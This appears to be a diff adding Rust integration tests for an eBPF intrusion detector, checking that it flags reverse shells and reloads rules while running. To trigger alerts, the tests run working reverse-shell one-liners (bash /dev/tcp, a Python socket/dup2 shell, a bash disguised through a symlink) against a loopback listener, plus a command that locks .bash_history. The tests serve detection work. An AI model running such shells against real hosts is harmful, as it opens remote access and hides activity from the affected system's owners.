@@ -1,0 +1,181 @@
+//! The detector on this machine: the default rules against reverse shells, and rules that change while it watches.
+#![cfg(feature = "live")]
+
+mod common;
+
+use common::{alerts, root};
+use std::io::{Read, Write};
+use std::net::TcpListener;
+use std::path::{Path, PathBuf};
+use std::process::{Child, Command, Stdio};
+use std::time::{Duration, Instant};
+
+/// The detector, watching.
+struct Detector {
+    child: Child,
+    folder: tempfile::TempDir,
+}
+
+impl Detector {
+    /// Starts it with these rules; `None`, and a word why, where the probe cannot run.
+    fn start(rules: &str) -> Option<Self> {
+        let folder = tempfile::tempdir().expect("a directory");
+        let path = |name: &str| folder.path().join(name);
+        std::fs::write(path("rules.yaml"), rules).expect("rules");
+        let config = format!(
+            "engine: {{kind: modern_ebpf}}\nrules_files: [{}]\nstdout_output: {{enabled: true}}\nlog_stderr: true\n\
+             log_syslog: false\nlog_level: info\njson_output: true\n",
+            path("rules.yaml").display()
+        );
+        std::fs::write(path("falco.yaml"), config).expect("config");
+        let child = Command::new(env!("CARGO_BIN_EXE_peregrine"))
+            .args(["-c", &path("falco.yaml").display().to_string()])
+            .stdout(std::fs::File::create(path("out")).expect("a file"))
+            .stderr(std::fs::File::create(path("err")).expect("a file"))
+            .stdin(Stdio::null())
+            .spawn()
+            .expect("the program starts");
+        let mut detector = Self { child, folder };
+        let start = Instant::now();
+        while !detector.text("err").contains("watching this machine") {
+            if detector.child.try_wait().expect("a child").is_some() {
+                println!("SKIPPED: {}", detector.text("err"));
+                assert!(
+                    std::env::var_os("PEREGRINE_REQUIRE_BPF").is_none(),
+                    "the probe must run here: {}",
+                    detector.text("err")
+                );
+                return None;
+            }
+            assert!(start.elapsed() < Duration::from_secs(60), "{}", detector.text("err"));
+            std::thread::sleep(Duration::from_millis(20));
+        }
+        println!("watching after {:?}", start.elapsed());
+        Some(detector)
+    }
+
+    fn path(&self, name: &str) -> PathBuf {
+        self.folder.path().join(name)
+    }
+
+    fn text(&self, name: &str) -> String {
+        std::fs::read_to_string(self.path(name)).unwrap_or_default()
+    }
+
+    /// Waits for an alert of `rule` in which `part` stands, and tells how long that took.
+    #[track_caller]
+    fn expect(&self, rule: &str, part: &str) {
+        let start = Instant::now();
+        loop {
+            let out = self.text("out");
+            // The last line may be half written.
+            let whole = out.rfind('\n').map_or("", |end| &out[..end]);
+            let found = alerts(whole).iter().any(|alert| {
+                alert["rule"] == rule && alert["output"].as_str().is_some_and(|output| output.contains(part))
+            });
+            if found {
+                println!("{rule}: {:?}", start.elapsed());
+                return;
+            }
+            assert!(start.elapsed() < Duration::from_secs(20), "{rule}, {part}: {out}{}", self.text("err"));
+            std::thread::sleep(Duration::from_millis(10));
+        }
+    }
+}
+
+impl Drop for Detector {
+    fn drop(&mut self) {
+        let _ = self.child.kill();
+        let _ = self.child.wait();
+    }
+}
+
+/// Answers one connection with `exit`, as whoever waits for a reverse shell might.
+fn answer(listener: &TcpListener) {
+    let (mut stream, _) = listener.accept().expect("a connection");
+    stream.set_read_timeout(Some(Duration::from_secs(10))).expect("a time limit");
+    stream.write_all(b"exit\n").expect("written");
+    let mut said = Vec::new();
+    // The shell may hang up in any way.
+    let _ = stream.read_to_end(&mut said);
+}
+
+/// Runs a command that connects to the listener, with a home of its own.
+fn intrude(listener: &TcpListener, home: &Path, program: &str, script: &str) {
+    let mut child = Command::new(program)
+        .args(["-c", script])
+        .env("HOME", home)
+        .stdin(Stdio::null())
+        .stdout(Stdio::null())
+        .stderr(Stdio::null())
+        .spawn()
+        .expect("it starts");
+    answer(listener);
+    child.wait().expect("a child");
+}
+
+#[test]
+fn reverse_shells_are_caught() {
+    let rules = std::fs::read_to_string(root().join("examples/peregrine/rules/peregrine_rules.yaml")).expect("rules");
+    let Some(detector) = Detector::start(&rules) else { return };
+    let home = detector.path("home");
+    std::fs::create_dir(&home).expect("a directory");
+    let listener = TcpListener::bind("127.0.0.1:0").expect("a port");
+    let port = listener.local_addr().expect("an address").port();
+    let to = format!("->127.0.0.1:{port}");
+    let (input, shell) = ("Standard input from a network socket", "Shell with a network socket as its input");
+
+    intrude(&listener, &home, "/bin/bash", &format!("bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1"));
+    detector.expect(input, &to);
+    detector.expect(shell, "process=bash exe=/usr/bin/bash command=bash -i");
+
+    if Path::new("/usr/bin/python3").exists() {
+        let script = format!(
+            "import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);\
+             s.connect((\"127.0.0.1\",{port}));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);\
+             p=subprocess.call([\"/bin/sh\",\"-i\"]);"
+        );
+        intrude(&listener, &home, "/usr/bin/python3", &script);
+        detector.expect(input, "process=python3");
+        detector.expect(shell, "command=sh -i parent=python3");
+    }
+
+    let link = home.join("innocent");
+    std::os::unix::fs::symlink("/bin/bash", &link).expect("a link");
+    let script = format!("{} -i >& /dev/tcp/127.0.0.1/{port} 0>&1", link.display());
+    intrude(&listener, &home, "/bin/bash", &script);
+    detector.expect(shell, "process=innocent exe=/usr/bin/bash");
+
+    let history = home.join(".bash_history");
+    std::fs::write(&history, "").expect("a file");
+    let script = format!("chmod 0400 {0}; bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1", history.display());
+    intrude(&listener, &home, "/bin/bash", &script);
+    detector.expect("Shell history made unwritable", ".bash_history");
+}
+
+#[test]
+fn new_rules_may_look_at_calls_that_were_not_captured() {
+    let rule = |name: &str, call: &str| {
+        format!(
+            "- rule: {name}\n  desc: d\n  condition: evt.type = {call} and evt.args contains peregrine-probe\n  \
+             output: seen %evt.args by %proc.name\n  priority: INFO\n"
+        )
+    };
+    let Some(detector) = Detector::start(&rule("Link", "link")) else { return };
+    // The kernel refuses a folder that is not there, and the probe sees it all the same.
+    let make = || {
+        let node = Command::new("mknod").args(["/nonexistent/peregrine-probe", "p"]).stderr(Stdio::null()).status();
+        assert!(!node.expect("mknod runs").success());
+    };
+    make();
+    let both = rule("Link", "link") + &rule("Node", "mknodat");
+    std::fs::write(detector.path("rules.yaml"), both).expect("rules");
+    let start = Instant::now();
+    while !detector.text("err").contains("the new rules change what is captured") {
+        assert!(start.elapsed() < Duration::from_secs(20), "{}", detector.text("err"));
+        std::thread::sleep(Duration::from_millis(20));
+    }
+    assert!(!detector.text("out").contains("Node"), "it was not captured before");
+    make();
+    detector.expect("Node", "by mknod");
+}
